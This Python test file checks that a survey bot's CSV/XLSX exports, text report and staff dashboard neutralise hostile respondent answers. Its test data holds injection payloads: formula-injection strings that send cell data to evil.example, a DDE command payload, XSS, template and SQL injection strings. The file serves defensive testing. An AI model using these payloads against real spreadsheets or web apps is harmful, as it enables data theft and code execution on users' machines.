"""Hostile answers on their way out: text report, CSV/XLSX export, staff dashboard.

Given free text, company names and contact times full of formulas, markup, template and
SQL syntax, recorded through the real dispatcher: no CSV or XLSX cell is a formula (a
cell starting with = + - @ is neutralised), the text report prints each answer as
itself on its own line, and the dashboard's autoescaping shows `<script>` as text.
"""

from __future__ import annotations

import csv
import io
import itertools
import zipfile
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path

import httpx
import pytest
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlalchemy import Engine
from sqlmodel import select

from bot.dispatch.envelope import Channel, Envelope
from bot.dispatch.service import Service, ServiceConfig
from bot.reports.export import export_rows, write_csv, write_xlsx
from bot.reports.text_report import render_report
from flows.answer_parsing import Parsed, normalize, parse_answer
from flows.commands import parse_command
from flows.definition import load_flow
from flows.events import Inbound
from flows.model import Flow, Lang
from flows.surveys import DEFAULT_FLOW
from storage.aggregates import question_stats
from storage.db import make_engine
from storage.migrate import upgrade
from storage.models import Answer, ContactRequest, Respondent
from storage.transactions import transaction
from tests.bot.web.conftest import empty_site
from tests.fuzz.strategies import HOSTILE_SNIPPETS, evaluated_probes, hostile_texts

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
]
_cells = st.one_of(
    st.sampled_from(FORMULAS),
    st.sampled_from(FORMULA_START).flatmap(lambda s: hostile_texts.map(lambda t: s + t)),
    hostile_texts,
)


def _neutral(cell: str, value: str) -> bool:
    return not cell.startswith(FORMULA_START) and cell in (value, "'" + value)


# --- CSV and XLSX, cell by cell --------------------------------------------------------


@settings(max_examples=300, deadline=None)
@given(rows=st.lists(st.lists(_cells, min_size=1, max_size=4), min_size=1, max_size=4))
@example(rows=[["=1+1", "@SUM(A1)", "-1", "+1", "\t=1", "\r=1"]])
def test_no_csv_cell_is_a_formula(rows: list[list[str]]) -> None:
    out = io.StringIO(newline="")
    header = [f"c{i}" for i in range(max(len(r) for r in rows))]
    assert write_csv(out, header, rows) == len(rows)
    text = out.getvalue()
    assert text.startswith("\ufeff")
    read = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert read[0] == header
    for written, row in zip(read[1:], rows, strict=True):
        for cell, value in zip(written, row, strict=True):
            assert _neutral(cell, value), (cell, value)


@settings(
    max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(rows=st.lists(st.lists(_cells, min_size=1, max_size=3), min_size=1, max_size=3))
@example(rows=[['=HYPERLINK("http://evil.example/","x")', "@SUM(A1)", "+1", "-1"]])
def test_no_xlsx_cell_is_a_formula(tmp_path: Path, rows: list[list[str]]) -> None:
    path = tmp_path / "export.xlsx"
    write_xlsx(path, ["a", "b", "c", "d"], rows)
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml  # no formula element at all
    sheet = load_workbook(path).active
    assert sheet is not None
    for written, row in zip(sheet.iter_rows(min_row=2), rows, strict=False):
        for cell, value in zip(written, row, strict=False):
            # XML turns a carriage return into a newline; the text is otherwise intact.
            expected = ILLEGAL_CHARACTERS_RE.sub("", value).replace("\r\n", "\n")
            expected = expected.replace("\r", "\n")
            assert cell.data_type != "f"
            assert (cell.value or "") == expected


# --- through the bot: report, export and dashboard ---------------------------------------

EXPLAIN = "reporting_explain"
# Each example is a whole survey through the dispatcher: shrinking one can take minutes,
# so a failure is reported as found (it is still a complete, replayable example).
E2E_PHASES = [Phase.explicit, Phase.reuse, Phase.generate]
_NOW = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


def _stored_as(flow: Flow, question_id: str, text: str) -> str:
    parsed = parse_answer(flow.question(question_id), text)
    assert isinstance(parsed, Parsed) and parsed.text is not None
    return parsed.text


def _accepted(flow: Flow, question_id: str, text: str) -> bool:
    if parse_command(text) is not None or normalize(text).startswith("/"):
        return False  # a command, or an unknown one: not an answer
    return isinstance(parse_answer(flow.question(question_id), text), Parsed)


@dataclass
class Survey:
    """The real dispatcher on a real database, driven message by message."""

    engine: Engine
    service: Service
    flow: Flow
    users: Iterator[int] = field(default_factory=lambda: itertools.count(1))
    messages: Iterator[int] = field(default_factory=lambda: itertools.count(1))

    def say(self, user: str, text: str) -> str:
        envelope = Envelope(
            Channel.TELEGRAM, user, f"m{next(self.messages)}", Inbound(now=_NOW, text=text)
        )
        return self.service.handle_sync(envelope).text

    def respondent(self, explain: str, company: str, when: str) -> str:
        """An OEM respondent who explains their reporting, then asks to be contacted."""
        user = f"inj{next(self.users)}"
        script = ["你好", "1", "1", "1", "是", "是", "1", "1", "是", "是", explain, "是", "是"]
        script += ["1", "1", "是", "王伟", company, "跳过", "wang@example.com", when]
        replies = [self.say(user, text) for text in script]
        assert all(evaluated_probes(s, r) == [] for s, r in zip(script, replies, strict=True))
        return user

    def stored(self, user: str) -> tuple[int, str | None, str]:
        """(respondent id, explain text, contact details JSON) as stored."""
        with transaction(self.engine) as session:
            respondent = session.exec(
                select(Respondent).where(Respondent.channel_user_id == user)
            ).one()
            explain = session.exec(
                select(Answer.text).where(
                    Answer.respondent_id == respondent.id, Answer.question_id == EXPLAIN
                )
            ).first()
            contact = session.exec(
                select(ContactRequest).where(ContactRequest.respondent_id == respondent.id)
            ).one()
            assert respondent.id is not None
            return respondent.id, explain, contact.details_json


@pytest.fixture
def survey(tmp_path: Path) -> Iterator[Survey]:
    url = f"sqlite:///{tmp_path / 'injection.db'}"
    upgrade(url)
    engine = make_engine(url)
    flow = load_flow(DEFAULT_FLOW)
    service = Service(engine, flow, config=ServiceConfig(snapshot_min_respondents=10**6))
    yield Survey(engine, service, flow)
    engine.dispose()


_explains = st.one_of(
    st.sampled_from([*FORMULAS, *HOSTILE_SNIPPETS]), hostile_texts.filter(lambda s: len(s) < 400)
)
_companies = st.one_of(
    st.sampled_from(
        [
            "<script>alert(1)</script>",
            '=HYPERLINK("http://evil.example/","ACME")',
            "{{ 7*7 }} Ltd",
            "ACME'); DROP TABLE respondent;--",
            "@SUM(A1) Co",
            "</td><td>forged cell",
            '"><img src=x onerror=alert(1)>',
        ]
    ),
    hostile_texts.filter(lambda s: len(s) <= 100),
)
_times = st.one_of(st.sampled_from(FORMULAS), hostile_texts.filter(lambda s: len(s) <= 100))


@settings(
    max_examples=20,
    deadline=None,
    phases=E2E_PHASES,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(explain=_explains, company=_companies, when=_times)
@example(explain="=1+1 <script>alert(1)</script> {{ 7*7 }}", company="@SUM(A1) Co", when="-1+1")
def test_hostile_answers_are_harmless_in_the_report_and_the_exports(
    survey: Survey, tmp_path: Path, explain: str, company: str, when: str
) -> None:
    flow = survey.flow
    explain = explain if _accepted(flow, EXPLAIN, explain) else "=1+1 " + explain[:50]
    company = company if _accepted(flow, "contact_company", company) else "=ACME<b>"
    when = when if _accepted(flow, "contact_time", when) else "@now"
    user = survey.respondent(explain, company, when)
    respondent_id, stored, _ = survey.stored(user)
    assert stored is not None

    with transaction(survey.engine) as session:
        report = render_report(flow, question_stats(session=session, flow=flow, text_limit=None))
        header, rows = export_rows(session=session, flow=flow)
        table = [header, *rows]
    # The report: each text on one line of its own, after the respondent's number.
    block = report.split(flow.question(EXPLAIN).text.get(Lang.BOTH))[1].split("\n\n")[0]
    lines = [line for line in block.split("\n") if line]
    assert f"{respondent_id} {' '.join(stored.split())}" in lines
    assert all(line.split(" ", 1)[0].isdigit() for line in lines)
    assert evaluated_probes(explain, report) == []

    out = io.StringIO(newline="")
    write_csv(out, header, table[1:])
    for row in list(csv.reader(io.StringIO(out.getvalue()[1:], newline="")))[1:]:
        assert not any(cell.startswith(FORMULA_START) for cell in row), row
    mine = next(r for r in table[1:] if r[0] == str(respondent_id))
    assert stored in mine  # the export carries the text as stored (CSV/XLSX neutralise)
    assert _stored_as(flow, "contact_company", company) in mine
    path = tmp_path / "export.xlsx"
    write_xlsx(path, header, table[1:])
    with zipfile.ZipFile(path) as archive:
        assert all(
            "<f>" not in archive.read(n).decode() for n in archive.namelist() if "worksheets" in n
        )


def _squash(value: str) -> str:
    return "".join(value.split())


# --- the dashboard -------------------------------------------------------------------------


class _Page(HTMLParser):
    """Elements, attributes and text of a page, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [name for name, _ in attrs]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


@pytest.fixture
async def dashboard(tmp_path: Path) -> AsyncIterator[tuple[Survey, httpx.AsyncClient]]:
    """A signed-in staff member's browser on the real app, and the survey behind it."""
    url = f"sqlite:///{tmp_path / 'dashboard.db'}"
    upgrade(url)
    engine = make_engine(url)
    site = empty_site(url, engine)
    service = Service(engine, site.flow, config=ServiceConfig(snapshot_min_respondents=10**6))
    async with site.client() as client:
        assert (await client.get(site.login_path())).status_code == 200
        yield Survey(engine, service, site.flow), client
    engine.dispose()


@settings(
    max_examples=12,
    deadline=None,
    phases=E2E_PHASES,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(explain=_explains, company=_companies, when=_times)
# A lone ZWJ was a valid free text to parse_answer but an empty message to the engine.
@example(explain="\x07", company="<script>alert(1)</script>", when="\u200d")
@example(
    explain="<script>alert(1)</script>",
    company='"><img src=x onerror=alert(1)>',
    when="</td></tr></table><script>alert(2)</script>",
)
async def test_the_dashboard_shows_hostile_answers_as_text(
    dashboard: tuple[Survey, httpx.AsyncClient], explain: str, company: str, when: str
) -> None:
    survey, client = dashboard
    flow = survey.flow
    explain = explain if _accepted(flow, EXPLAIN, explain) else "<script>x</script> " + explain
    company = company if _accepted(flow, "contact_company", company) else "<b>ACME</b>"
    when = when if _accepted(flow, "contact_time", when) else "<i>noon</i>"
    explain = explain if _accepted(flow, EXPLAIN, explain) else "<script>x</script>"
    _, stored, details = survey.stored(survey.respondent(explain, company, when))

    response = await client.get("/dashboard")
    assert response.status_code == 200
    page = _Page()
    page.feed(response.text)
    assert "script" not in page.tags  # no inline script at all: the CSP allows none
    assert not [a for a in page.attributes if a.lower().startswith("on")]
    shown = _squash("".join(page.text))
    assert stored is not None and _squash(stored) in shown
    assert _squash(_stored_as(flow, "contact_company", company)) in shown
    assert evaluated_probes(explain + company + when, "".join(page.text)) == []
    assert "<script>" not in response.text.replace("&lt;script&gt;", "")
    assert details  # the contact request (with the hostile company) was recorded


@pytest.mark.parametrize(
    "path",
    [
        "/dashboard/crosstab?q=<script>alert(1)</script>&by={{7*7}}",
        '/dashboard/crosstab?q=role&by="><svg onload=alert(1)>',
        "/dashboard/chart/<script>.png",
        "/dashboard/login?token=<script>alert(1)</script>",
        "/export/<svg>?token={{7*7}}",
    ],
)
async def test_hostile_query_strings_are_not_reflected_as_markup(
    dashboard: tuple[Survey, httpx.AsyncClient], path: str
) -> None:
    _, client = dashboard
    response = await client.get(path)
    assert response.status_code < 500
    if "html" in response.headers.get("content-type", ""):
        page = _Page()
        page.feed(response.text)
        assert "script" not in page.tags and "svg" not in page.tags
        assert not [a for a in page.attributes if a.lower().startswith("on")]
        assert evaluated_probes(path, response.text) == []
